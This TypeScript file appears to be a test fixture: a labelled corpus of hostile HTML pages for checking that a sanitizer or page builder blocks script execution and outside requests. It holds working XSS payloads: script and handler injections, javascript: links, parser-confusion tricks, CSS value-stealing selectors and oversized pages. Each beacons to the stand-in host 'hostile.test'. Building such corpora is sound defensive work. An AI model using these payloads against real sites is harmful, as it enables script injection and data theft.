/** A page that tries to run code or to ask for something. */
export interface HostilePage {
  readonly name: string;
  readonly html: string | Uint8Array;
}

/** The host that hostile pages ask, and that nobody may ask. */
export const HOSTILE_HOST = 'hostile.test';

const URL = `https://${HOSTILE_HOST}`;

/** Code that leaves a trace in its own page and in those around it. */
const RUN = `window.escaped=1;top.escaped=1;parent.escaped=1;new Image().src='${URL}/ran'`;
const SCRIPT = `<script>${RUN}</script>`;
const IMG = `<img src=x onerror="${RUN}">`;
const SVG_WITH_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${RUN}"><script>${RUN}</script></svg>`;

const encode = (text: string): string => encodeURIComponent(text);
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const repeat = (text: string, count: number): string => text.repeat(count);

const doubled = (write: (at: number) => string): string => Array.from({ length: 25 }, (_, at) => write(at)).join('');

const PAGES: Readonly<Record<string, string | Uint8Array>> = {
  // Scripts
  'a script in the head': `<head>${SCRIPT}</head><p>Text`,
  'a script in the body': `<p>Text${SCRIPT}`,
  'a script from another site': `<script src="${URL}/a.js"></script>`,
  'a module script': `<script type="module">import '${URL}/a.js'</script>`,
  'an import map and speculation rules':
    `<script type="importmap">{"imports":{"a":"${URL}/a.js"}}</script>` +
    `<script type="speculationrules">{"prefetch":[{"source":"list",` +
    `"urls":["${URL}/next"]}]}</script>`,
  'a script without an end': `<p>Text<script>${RUN}`,
  'a script in capitals with a slash': `<SCRIPT/x>${RUN}</SCRIPT>`,
  'a script in a comment that ends early': `<!--><script>${RUN}</script>-->`,
  'a script in a comment with a dash': `<!--->${SCRIPT}<!-- --!>${SCRIPT}`,
  'a script in a bogus comment': `<?php ><script>${RUN}</script> ?><! x>${SCRIPT}`,
  'a script in CDATA': `<![CDATA[ > ${SCRIPT} ]]>`,
  'a script in an SVG': `<svg><script>${RUN}</script><script href="${URL}/a.js"/><script xlink:href="${URL}/b.js"/></svg>`,
  'a script in MathML': `<math><script>${RUN}</script><mtext><script>${RUN}</script></mtext></math>`,
  'a script in a template': `<template>${SCRIPT}${IMG}</template>`,
  'a script in a shadow root': `<div><template shadowrootmode="open">${SCRIPT}${IMG}<style>@import "${URL}/a.css"</style></template></div>`,
  'a shadow root in a shadow root': [
    `<div><template shadowrootmode="closed"><p>`,
    `<template shadowrootmode="open">${IMG}</template></p></template></div>`,
  ].join(''),
  'two shadow roots of one element': [
    `<div><template shadowrootmode="open">A</template>`,
    `<template shadowrootmode="open">${IMG}</template></div>`,
  ].join(''),
  'a script in a frameset': `<frameset onload="${RUN}"><frame src="${URL}/frame"><frame src="javascript:${RUN}"></frameset>`,
  'a script after the body': `<body>Text</body></html>${SCRIPT}`,
  'a script in a select': `<select><option>A<script>${RUN}</script><img src=x onerror="${RUN}"></select>`,
  'a script in a table': `<table><script>${RUN}</script><tr>${IMG}<td>A</table>`,
  // Handlers
  'handlers of loads and errors': [
    `<body onload="${RUN}" onpageshow="${RUN}" onhashchange="${RUN}">${IMG}<video src=x onerror="${RUN}">`,
    `</video>`,
  ].join(''),
  'a handler with a slash before it': `<img/src=x/onerror=${encode('1')};window.escaped=1;top.escaped=1>`,
  'a handler with strange space': `<img src=x\u000Conerror="${RUN}"><svg\u000Aonload="${RUN}">`,
  'handlers of focus': [
    `<input autofocus onfocus="${RUN}"><a tabindex=1 autofocus onfocus="${RUN}">x</a>`,
    `<select autofocus onfocus="${RUN}"></select>`,
  ].join(''),
  'handlers of animations':
    `<style>@keyframes k{from{opacity:0}}p{animation:k .1s;transition:color .1s}</style>` +
    `<p onanimationstart="${RUN}" onanimationend="${RUN}" ontransitionend="${RUN}">` +
    `x`,
  'handlers of details and popovers':
    `<details open ontoggle="${RUN}"><summary>x</summary></details>` +
    `<div popover onbeforetoggle="${RUN}">x</div><dialog open onclose="${RUN}">` +
    `x</dialog>`,
  'handlers of an SVG': [
    `<svg onload="${RUN}"><g onload="${RUN}">`,
    `<animate attributeName=x dur=1s onbegin="${RUN}" onend="${RUN}"/></g></svg>`,
  ].join(''),
  'a handler of content visibility': `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">x</div>`,
  'a handler in a duplicate attribute': `<img src=x title=a title=b onerror=x onerror="${RUN}">`,
  'a handler of a custom element': `<x-card onclick="${RUN}" onload="${RUN}" style="animation:k 1s" onanimationstart="${RUN}">x</x-card>`,
  'a customised element': `<button is="x-button" onclick="${RUN}">x</button>`,
  // Addresses
  'a link that runs code': `<a href="javascript:${RUN}">x</a><a href=" java\tscript:${RUN}">x</a><a href="&#x6A;avascript:${RUN}">x</a>`,
  'links with targets and pings': `<a href="${URL}/" target="_top" ping="${URL}/ping" download>x</a><area href="${URL}/" target="_parent">`,
  'a link in an SVG': `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a><a href="${URL}/"><text y=9>y</text></a></svg>`,
  'an animated link':
    `<svg><a><animate attributeName="href" values="javascript:${RUN}"/>` +
    `<set attributeName="href" to="javascript:${RUN}"/><text y=9>x</text>` +
    `</a></svg>`,
  'an animated picture':
    `<svg><image><set attributeName="href" to="${URL}/set.png"/></image>` +
    `<use><animate attributeName="href" to="${URL}/a.svg#b"/></use>` +
    `</svg>`,
  'a link in MathML':
    `<math href="javascript:${RUN}"><mi href="${URL}/" xlink:href="javascript:${RUN}">` +
    `x</mi><maction actiontype="statusline" xlink:href="javascript:${RUN}">` +
    `y</maction></math>`,
  'a base address': `<base href="${URL}/"><base target="_top"><img src="a.png"><link rel="stylesheet" href="a.css">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${URL}/next"><meta http-equiv=" Refresh" content="0;javascript:${RUN}">`,
  'a refresh in the body': `<p>x<meta http-equiv="refresh" content="0;url=data:text/html,${encode(SCRIPT)}">`,
  'other headers in meta':
    `<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="content-security-policy" content="default-sr` +
    `c *; report-uri ${URL}/csp"><meta http-equiv="x-dns-prefetch-control" content="on">`,
  'a refresh in noscript': [
    `<noscript><meta http-equiv="refresh" content="0;`,
    `url=${URL}/next">${IMG}<p title="</noscript>${IMG}"></noscript>`,
  ].join(''),
  // Requests
  'resources of every kind': [
    'preload',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'prerender',
    'icon',
    'manifest',
    'expect',
  ]
    .map((rel) => `<link rel="${rel}" href="${URL}/${rel}" as="script">`)
    .join(''),
  'style sheets':
    `<link rel="stylesheet" href="${URL}/a.css"><link rel="alternate stylesheet" href="${URL}/b.css" title="b">` +
    `<?xml-stylesheet href="${URL}/c.css"?>`,
  'pictures from another site':
    `<img src="${URL}/a.png" srcset="${URL}/b.png 2x" lowsrc="${URL}/c.png">` +
    `<picture><source srcset="${URL}/d.png"><img srcset="${URL}/e.png 1x">` +
    `</picture><input type=image src="${URL}/f.png">`,
  'pictures without a scheme':
    `<img src="//${HOSTILE_HOST}/a.png"><img src="\\\\${HOSTILE_HOST}\\b.png">` +
    `<img src="/\t/${HOSTILE_HOST}/c.png"><img src="http:${HOSTILE_HOST}/d.png">`,
  'old backgrounds':
    `<body background="${URL}/a.png"><table background="${URL}/b.png">` +
    `<tr background="${URL}/c.png"><td background="${URL}/d.png">x</table>`,
  'pictures in an SVG':
    `<svg><image href="${URL}/a.png" xlink:href="${URL}/b.png" width=9 height=9 />` +
    `<use href="${URL}/c.svg#d"/><feImage href="${URL}/e.png"/><linearGradient href="${URL}/f.svg#g"/>` +
    `</svg>`,
  'paint from another site':
    `<svg><rect width=9 height=9 fill="url(${URL}/a.svg#b)" filter="url('${URL}/c.svg#d')` +
    `" style="mask:url(${URL}/e.svg#f)" clip-path=url(${URL}/g) />` +
    `</svg>`,
  'films and sounds':
    `<video src="${URL}/a.mp4" poster="${URL}/b.png" autoplay><source src="${URL}/c.mp4">` +
    `<track src="${URL}/d.vtt" default></video><audio src="${URL}/e.mp3" autoplay>` +
    `</audio><bgsound src="${URL}/f.mp3">`,
  frames:
    `<iframe src="${URL}/a"></iframe><iframe src="javascript:${RUN}">` +
    `</iframe><iframe srcdoc="${SCRIPT.replaceAll('"', '&quot;')}">` +
    `</iframe><iframe sandbox="allow-scripts allow-top-navigation" src="data:text/html,` +
    `${encode(SCRIPT)}"></iframe>`,
  'plug-ins':
    `<object data="${URL}/a.swf" type="text/html"></object><object data="data:text/html,` +
    `${encode(SCRIPT)}"></object><embed src="${URL}/b"><embed src="javascript:${RUN}">` +
    `<applet archive="${URL}/c" code="${URL}/d"></applet>`,
  'portals and fenced frames': [
    `<portal src="${URL}/a"></portal><fencedframe src="${URL}/b">`,
    `</fencedframe><controlledframe src="${URL}/c"></controlledframe>`,
  ].join(''),
  // Forms
  'a form that sends itself':
    `<form id=f action="${URL}/a" method=post target=_top onsubmit="${RUN}">` +
    `<input name=a value=b><button formaction="javascript:${RUN}" formtarget=_top>` +
    `x</button><input type=submit formaction="${URL}/b"></form><button form=f formaction="${URL}/c">` +
    `y</button>`,
  'nested forms': [
    `<form action="${URL}/a"><table><form action="${URL}/b"><tr><td>`,
    `<form><input onfocus="${RUN}" autofocus></table></form>${IMG}`,
  ].join(''),
  'a form with clobbering names':
    `<form id=a><input name=attributes><input name=childNodes><input name=parentNode>` +
    `<input name=action value="${URL}"></form><img name=body><img name=documentElement id=head>`,
  // CSS
  'CSS imports':
    `<style>@import "${URL}/a.css";@import url(${URL}/b.css);@\\69mport '${URL}/c.css' layer(x)` +
    `;@charset "utf-7";@namespace url(${URL}/d)</style>`,
  'CSS addresses':
    `<style>p{background:url(${URL}/a.png);background:url("${URL}/b.png")` +
    `;background:u\\72l(${URL}/c.png);background:\\75 \\72 \\6c(${URL}/d.png)` +
    `;list-style:url('${URL}/e.png');cursor:url(${URL}/f.cur),auto;` +
    `content:url(${URL}/g.png);border-image:url(${URL}/h.png) 1}</style>` +
    `<p>x`,
  'CSS image sets':
    `<style>p{background:image-set("${URL}/a.png" 1x);background:-webkit-image-set(url(${URL}/b.png)` +
    ` 1x);background:cross-fade(url(${URL}/c.png),url(${URL}/d.png)` +
    `);--x:"${URL}/e.png";background:src(var(--x));background:image("${URL}/f.png")` +
    `;mask-image:image-set(var(--x) 1x)}</style><p>x`,
  'CSS fonts': `<style>@font-face{font-family:f;src:url(${URL}/a.woff2) format("woff2"),url("${URL}/b.ttf")}p{font-family:f}</style><p>x`,
  'CSS in attributes':
    `<p style="background:url(${URL}/a.png)">x<p style="background:&#117;` +
    `rl(${URL}/b.png)">y<p style='background:url("${URL}/c.png'>z<p style="--a:url(${URL}/d.png)` +
    `;background:var(--a)">`,
  'CSS that ends its element': `<style>p{content:"</style>${IMG}"}/*</style>${IMG}*/</style>`,
  'CSS with escapes that end its element': [
    `<style>p::before{content:"\\3c/style>\\3cimg src=x onerror=escaped=1>"}\\3c /style\\3e{}</style>`,
    `<p>x`,
  ].join(''),
  'CSS with comments of HTML': `<style><!-- @import "${URL}/a.css"; --> <!--<script>--></style>${IMG}`,
  'CSS that is not finished': `<style>p{background:url(${URL}/a.png`,
  'CSS with a broken string': `<style>p{content:"a\n;background:url(${URL}/a.png)}q{color:red}</style>`,
  'CSS of old browsers':
    `<style>p{behavior:url(${URL}/a.htc);-moz-binding:url(${URL}/b.xml#c)` +
    `;width:expression(${RUN});filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='${URL}/c.png')` +
    `}</style><p>x`,
  'CSS that steals values':
    `<style>input[value^="a"]{background:url(${URL}/a)}@view-transition{navigation:auto}@page{background:url(${URL}` +
    `/b)}p{shape-outside:url(${URL}/c);offset-path:url(${URL}/d#e)` +
    `;animation-timeline:scroll()}</style><input value=abc><p>x`,
  'CSS in an SVG':
    `<svg><style>@import "${URL}/a.css";rect{fill:url(${URL}/b.svg#c)` +
    `}<![CDATA[</style>${IMG}]]></style><rect width=9 height=9 /></svg>`,
  'CSS whose parts join when a comment of HTML goes':
    `<style>p{background:url<!--("${URL}/a");list-style:url-->("${URL}/b");cursor:image-set<!--("${URL}/c" 1x),auto;` +
    `mask-image:-webkit-image-set<!--("${URL}/d" 1x);border-image:-webkit-cross-fade<!--(url<!--("${URL}/e"),url<!--("${URL}/f"),50%);` +
    `-webkit-mask-box-image:url<!--("${URL}/g");--x:url<!--("${URL}/h");shape-outside:var(--x)}p::before{content:url<!--("${URL}/i")}` +
    `@font-face{font-family:f;src:url<!--("${URL}/j")}q{font-family:f;background:url<!--("/same")}` +
    `@property --i{syntax:"<image>";inherits:true;initial-value:url<!--("${URL}/k")}i{background:var(--i)}</style><p>x<q>y</q><i>z</i>`,
  'CSS whose parts join to an import':
    `<style>@<!--import "${URL}/a";</style><style>@<!--\\69mport "${URL}/b";</style><style>@@charset "x";import "${URL}/c";</style>` +
    `<style>@@import "x";import "${URL}/d";</style><style>@<!---->@x;<!--import "${URL}/e";</style>` +
    `<style>@@@charset "x";charset "x";import "${URL}/f";</style>`,
  'CSS whose parts join when a rule or an address goes':
    `<style>p{background:url@x;("${URL}/a")}</style><style>p{background:url@x{}("${URL}/b")}</style>` +
    `<style>p{background:url<!--url(a"b)("${URL}/c")}</style><style>p{background:url"a\n("${URL}/d")}</style><p>x`,
  'CSS whose parts join in attributes':
    `<p style='background:url<!--("${URL}/a")'>x<svg><rect width=9 height=9 fill='url<!--("${URL}/b.svg#a")' ` +
    `mask='url-->("${URL}/c.svg#a")'/><style>rect{fill:url&lt;!--("${URL}/d.svg#a");background:url&lt;!--("${URL}/e")}</style></svg>` +
    `<x-a><template shadowrootmode=open><style>p{background:url<!--("${URL}/f")}</style><p>x</p></template></x-a>`,
  'CSS with an escaped bracket before an address':
    `<style>p{background:1px\\<url("${URL}/a");list-style:#a\\<url("${URL}/b");cursor:1\\<image-set("${URL}/c" 1x),auto;` +
    `--a:1px\\<url("${URL}/d");mask-image:var(--a)}@font-face{font-family:f;src:local(q),1px\\<url("${URL}/e")}` +
    `q{font-family:f}@x\\<import "${URL}/f";</style><p>x<q>y</q>`,
  'CSS that asks for the page itself':
    `<style>p{mask:none;background/**/:url(#a);border-image/* */:url(#b) 1;list-style/**/ :url(#c);` +
    `background-image:if(style(mask:x):url(#d);else:none)}` +
    `q{mask:none;&:hover,&{background:url(#e)}}i{mask:url(#f);mask-image:url(#g);-webkit-mask-image:url(#h);filter:url(#i);` +
    `clip-path:url(#j);offset-path:url(#k);backdrop-filter:url(#l)}svg{marker:url(#m);marker-start:url(#n);fill:url(#o)}</style>` +
    `<p>x<q>y</q><i>z</i><svg><path d="M0 0h9v9z"/></svg>`,
  'an attribute that the build itself writes': `<style>[data-snapshot]{}</style><x-a data-snapshot=1>x</x-a><p data-snapshot=2>y`,
  // Parsers
  'a style in an SVG with a comment': `<svg><style><!--</style><img src=x onerror="${RUN}">--></style></svg>`,
  'a title in an SVG': `<svg><title><style></title>${IMG}</style></title><desc><noscript></desc>${IMG}</svg>`,
  'MathML that changes when written': [
    `<math><mtext><table><mglyph><style><!--</style>`,
    `<img title="--&gt;&lt;img src=x onerror='${RUN}'&gt;">`,
  ].join(''),
  'MathML with a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  'SVG in an annotation': `<math><annotation-xml encoding="text/html"><style><img title="</style>${IMG}"></style></annotation-xml></math>`,
  'HTML in an SVG':
    `<svg><foreignObject><p>x${SCRIPT}</p><iframe src="${URL}/a"></iframe>` +
    `<math><mi><p title="</math></svg>${IMG}">y</foreignObject></svg>`,
  'a paragraph in an SVG': `<svg></p><style><a id="</style><img src=1 onerror='${RUN}'>">`,
  'text elements':
    `<xmp><p title="</xmp>${IMG}"></xmp><noembed><p title="</noembed>` +
    `${IMG}"></noembed><noframes><p title="</noframes>${IMG}"></noframes>` +
    `<textarea><p title="</textarea>${IMG}"></textarea><title><p title="</title>` +
    `${IMG}">`,
  'plain text': `<p>x<plaintext><script>${RUN}</script>`,
  'a noscript in an attribute': `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  'a template in a template': `<template><template><style></template>${IMG}</style></template></template>`,
  'a select with a style': `<select><style><option></select>${IMG}</style>`,
  'broken attributes':
    `<a title='"><img src=x onerror=${encode('1')}>' "onmouseover=x>` +
    `<p title="\`><img src=x onerror=window.escaped=1>"><img \`onerror=window.escaped=1\` src=x>`,
  'quotes of other alphabets': `<p title=“><img src=x onerror=top.escaped=1>”><p id=\`\`onmouseover=top.escaped=1>`,
  'nulls and strange controls': [
    `<scr\u0000ipt>${RUN}</scr\u0000ipt><img src=x o\u0000nerror="${RUN}">`,
    `<a href="\u0001javascript:${RUN}">x</a>`,
  ].join(''),
  'an element with a strange name': `<x-a"<img/src=x onerror="${RUN}">x</x-a><font-face-uri xlink:href="${URL}/a">`,
  // Data
  'an SVG as data':
    `<img src="data:image/svg+xml,${encode(SVG_WITH_SCRIPT)}"><img src="data:image/svg+xml;` +
    `base64,${base64(SVG_WITH_SCRIPT)}"><style>p{background:url("data:image/svg+xml,` +
    `${encode(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${URL}/a.png'/></svg>`)}")` +
    `}</style><p>x`,
  'data of other types':
    `<img src="data:text/html,${encode(SCRIPT)}"><img src="blob:${URL}/a">` +
    `<img src="filesystem:${URL}/b"><style>@font-face{font-family:f;` +
    `src:url(data:text/css,@import%20'${URL}')}</style>`,
  // Charsets
  'UTF-7': `<meta charset="utf-7">+ADw-script+AD4-window.escaped=1+ADw-/script+AD4-`,
  'UTF-16 with its mark': new Uint8Array([0xff, 0xfe, ...Buffer.from(`<p>x${SCRIPT}`, 'utf16le')]),
  'ISO-2022-JP': Buffer.from(`<meta charset="iso-2022-jp"><p title="\u001B$B">x</p>${IMG}<p title="\u001B(B">`, 'latin1'),
  'bytes that are no UTF-8': new Uint8Array([...Buffer.from('<p title="'), 0xc0, 0xbc, 0xe2, ...Buffer.from(`">${IMG}`)]),
  // Size
  'very deep elements': `${repeat('<div>', 3000)}${IMG}${repeat('</div>', 3000)}`,
  'very deep formatting': `${repeat('<b><p>', 600)}${IMG}`,
  'very many elements': `${repeat('<p>x</p>', 20_000)}${IMG}`,
  'a very long attribute': `<p title="${repeat('x', 200_000)}">x${IMG}`,
  'a drawing that repeats itself':
    `<svg width=9 height=9><g id=a0><rect width=1 height=1 /></g>` +
    `${doubled((at) => `<g id=a${at + 1}><use href="#a${at}"/><use href="#a${at}"/></g>`)}</svg>` +
    `<svg width=9 height=9>${doubled((at) => `<mask id=m${at + 1}>${repeat(`<rect width=9 height=9 mask='url(#m${at})'/>`, 2)}</mask>`)}` +
    `<rect width=9 height=9 mask='url(#m25)'/></svg>`,
  'very many attributes': `<p ${Array.from({ length: 2000 }, (_, at) => `a${at}=x`).join(' ')} onclick="${RUN}">x`,
};

/** A corpus of hostile pages: what is known to have run or asked for something somewhere. */
export const hostilePages: readonly HostilePage[] = Object.entries(PAGES).map(([name, html]) => ({ name, html }));

/** Pages that do not build: nobody can say in which charset they are. */
const REFUSED = ['UTF-7', 'bytes that are no UTF-8', 'ISO-2022-JP', 'nulls and strange controls'];

/** The hostile pages that build, and so reach a browser. */
export const playableHostilePages = hostilePages.filter(({ name }) => !REFUSED.includes(name));
